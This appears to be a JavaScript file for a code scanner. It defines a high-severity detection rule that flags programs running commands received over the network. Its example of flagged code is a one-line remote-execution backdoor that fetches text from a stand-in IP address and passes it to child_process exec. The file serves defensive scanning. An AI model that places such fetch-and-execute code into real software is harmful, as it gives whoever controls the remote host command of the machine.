import { defineRule } from './defineRule.js';

export const takesOrders = defineRule({
  id: 'takes-orders',
  severity: 'high',
  message: 'It starts programs as somebody over the network says.',
  why: 'Whoever answers is in charge of the host.',
  match: { on: 'near', all: [['runs-given-command'], ['uses-network']] },
  examples: {
    flags: [
      "const { exec } = require('child_process'); fetch('http://203.0.113.7/next').then((r) => r.text()).then((c) => exec(c))",
    ],
    passes: ["require('child_process').exec('git status')"],
  },
});
